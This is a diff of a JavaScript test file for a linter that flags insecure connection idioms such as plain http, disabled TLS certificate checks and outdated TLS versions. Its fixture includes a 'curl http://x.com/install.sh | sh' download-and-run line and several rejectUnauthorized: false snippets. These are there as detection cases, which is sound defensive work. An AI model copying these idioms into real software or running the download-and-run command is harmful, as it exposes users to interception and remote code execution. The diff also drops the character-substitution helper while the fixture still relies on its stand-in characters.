@@ -1,9 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { wrongLines } from '../__fixtures__/check-lines.js';
-
-/** In the texts below, an acute accent stands for a backtick and a currency sign for the dollar before a brace. */
-const wrong = (text: string) =>
-  wrongLines({ 'src/index.js': text.replaceAll('\u00b4', '`').replaceAll('\u00a4{', '${') });
+import { wrongIdioms } from '../__fixtures__/check-lines.js';
 
 /** TLS as the options of each client say it. */
 describe('connections', () => {
@@ -84,6 +80,58 @@ fetch('http://schemas.acme.org/ns'); // BAD plain-http
 const ns = 'http://www.w3.org/2000/svg'; // OK plain-http
 `,
   ])('as people write them %#', async (text) => {
-    expect(await wrong(text)).toEqual([]);
+    expect(await wrongIdioms(text)).toEqual([]);
+  });
+
+  it('tells safe connections apart from plain and unchecked ones', async () => {
+    expect(
+      await wrongIdioms(String.raw`
+const https = require('https'); const http = require('http'); const axios = require('axios'); const tls = require('tls'); const fetch2 = require('node-fetch'); const WebSocket = require('ws'); const redis = require('redis'); const nodemailer = require('nodemailer'); const mongoose = require('mongoose'); const { Client } = require('pg');
+fetch('http://api.example.com/x'); // BAD plain-http
+fetch('https://api.x.com/x'); // OK tls-unverified
+fetch('http://localhost:3000'); // OK plain-http
+fetch('http://127.0.0.1:3000'); // OK plain-http
+fetch(´http://¤{host}/x´); 
+axios.get('http://api.x.com'); // BAD plain-http
+axios.post('http://api.x.com', {}); // BAD plain-http
+axios({ url: 'http://api.x.com' }); // BAD plain-http
+axios.create({ baseURL: 'http://api.x.com' }); // BAD plain-http
+http.get('http://api.x.com/x', cb); // BAD plain-http
+http.request({ hostname: 'api.x.com', path: '/' }); // BAD plain-http
+new WebSocket('ws://api.x.com'); // BAD plain-http
+new WebSocket('wss://api.x.com'); // OK tls-unverified
+new WebSocket('ws://localhost:1'); // OK plain-http
+const agent = new https.Agent({ rejectUnauthorized: false }); // BAD tls-unverified
+const agent2 = new https.Agent({ rejectUnauthorized: true }); // OK tls-unverified
+const agent3 = new https.Agent({ keepAlive: true }); // OK tls-unverified
+process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; // BAD tls-unverified
+process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0; // BAD tls-unverified
+process.env.NODE_TLS_REJECT_UNAUTHORIZED = '1'; // OK tls-unverified
+tls.connect({ rejectUnauthorized: false }); // BAD tls-unverified
+https.request({ host: 'x', rejectUnauthorized: !!process.env.STRICT }); // OK tls-unverified
+https.request({ host: 'x', checkServerIdentity: () => {} }); // BAD tls-unverified
+nodemailer.createTransport({ host: 'x', secure: true }); // OK tls-unverified
+nodemailer.createTransport({ tls: { rejectUnauthorized: false } }); // BAD tls-unverified
+new Client({ ssl: { rejectUnauthorized: false } }); // BAD tls-unverified
+new Client({ ssl: true }); // OK tls-unverified
+tls.createServer({ minVersion: 'TLSv1' }); // BAD old-tls
+tls.createServer({ minVersion: 'TLSv1.2' }); // OK tls-unverified
+https.createServer({ secureProtocol: 'TLSv1_method' }); // BAD old-tls
+https.createServer({ secureOptions: constants.SSL_OP_NO_TLSv1 }); // OK tls-unverified
+const xmlns = 'http://www.w3.org/2000/svg'; // OK plain-http
+el.setAttribute('xmlns', 'http://www.w3.org/2000/svg'); // OK plain-http
+const url = 'http://schemas.x.com/'; // OK plain-http
+const opts = { ...base, rejectUnauthorized: false }; axios.get('https://x.com', { httpsAgent: new https.Agent(opts) }); // BAD tls-unverified
+require('request')({ url: 'https://x.com', strictSSL: false }); // BAD tls-unverified
+require('got')('http://x.com/y'); // BAD plain-http
+require('superagent').get('http://x.com/y'); // BAD plain-http
+require('needle').get('http://x.com/y'); // BAD plain-http
+require('request').get('http://x.com/y'); // BAD plain-http
+require('child_process').exec('curl http://x.com/install.sh | sh'); // BAD download-and-run
+require('child_process').exec('wget --no-check-certificate https://x.com/i'); // BAD tls-unverified
+const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://x.com/y'); // BAD plain-http
+const proxy = 'http://proxy.local:8080'; // OK plain-http
+`),
+    ).toEqual([]);
   });
 });
